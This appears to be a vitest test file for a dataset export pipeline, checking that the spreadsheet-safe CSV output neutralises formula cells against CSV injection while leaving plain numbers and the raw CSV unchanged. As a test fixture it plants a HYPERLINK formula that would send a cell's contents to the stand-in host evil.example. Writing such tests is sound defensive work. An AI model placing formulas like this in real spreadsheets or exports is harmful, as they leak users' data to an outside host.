/**
 * values.excel.csv is meant for a spreadsheet: a cell that would run as a formula (=, +, -, @, tab,
 * carriage return in front) gets a leading ' (OWASP "CSV injection"); plain numbers such as -3 stay.
 * values.csv is the data as it is, byte for byte.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { CORRECTION_COLUMNS, excelCell, exportFiles } from '../src/dataset/export.js';
import { LONG_COLUMNS, longRows } from '../src/dataset/long.js';
import { SqliteStore } from '../src/dataset/sqlite.js';
import { processFile } from '../src/pipeline/process.js';

describe('values.excel.csv', () => {
  it('neutralises every cell a spreadsheet would run, keeps plain numbers, and leaves values.csv as it was', async () => {
    const rec = await processFile('corpus/real/changle_2020.txt');
    rec.issuer.name = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const [a, b, c, d] = rec.cells;
    Object.assign(a, { raw: '+1' });
    Object.assign(b, { raw: '@SUM(A1:A9)' });
    Object.assign(c, { raw: '-3', value: -3 });
    rec.values[c.key] = -3;
    Object.assign(d, { raw: '\t=1+2' });
    const out = mkdtempSync(join(tmpdir(), 'excel-'));
    const ds = new SqliteStore(join(out, 'nianbao.sqlite'));
    await ds.put(rec);
    await exportFiles(ds, out);
    await ds.close();

    const csv = readFileSync(join(out, 'values.csv'), 'utf8');
    const excel = readFileSync(join(out, 'values.excel.csv'), 'utf8');
    // values.csv: the long table as it is, nothing added.
    const rows = longRows(rec).map((r) => [...LONG_COLUMNS.map((col) => r[col] ?? ''), '', '']);
    expect(csv).toBe(stringify([[...LONG_COLUMNS, ...CORRECTION_COLUMNS], ...rows]));

    expect(excel.startsWith('\ufeff')).toBe(true);
    const plain = parse(csv) as string[][];
    const safe = parse(excel.slice(1)) as string[][];
    expect(safe.length).toBe(plain.length);
    const issuer = LONG_COLUMNS.indexOf('issuer_name');
    const raw = LONG_COLUMNS.indexOf('raw');
    const value = LONG_COLUMNS.indexOf('value');
    expect(new Set(safe.slice(1).map((r) => r[issuer]))).toEqual(new Set([`'=HYPERLINK("http://evil.example/?"&A1,"click")`]));
    const byKey = (rs: string[][], k: string) => rs.find((r) => r[LONG_COLUMNS.indexOf('key')] === k)!;
    expect(byKey(safe, a.key)[raw]).toBe("'+1");
    expect(byKey(safe, b.key)[raw]).toBe("'@SUM(A1:A9)");
    expect(byKey(safe, c.key)[raw]).toBe('-3');
    expect(byKey(safe, c.key)[value]).toBe('-3');
    expect(byKey(safe, d.key)[raw]).toBe("'\t=1+2");
    // Every other cell is the same in both files.
    for (const [i, r] of plain.entries()) for (const [j, cell] of r.entries()) expect(safe[i][j]).toBe(excelCell(cell));
  });

  it('excelCell: formulas get a quote, numbers and plain text do not', () => {
    expect(['=1', '+1', '-x', '@a', '\tb', '\rc', '-3', '-1.5', '12', '3.5', 'text', '', '年报'].map(excelCell)).toEqual([
      "'=1", "'+1", "'-x", "'@a", "'\tb", "'\rc", '-3', '-1.5', '12', '3.5', 'text', '', '年报',
    ]);
    expect(excelCell(-3)).toBe(-3);
  });
});
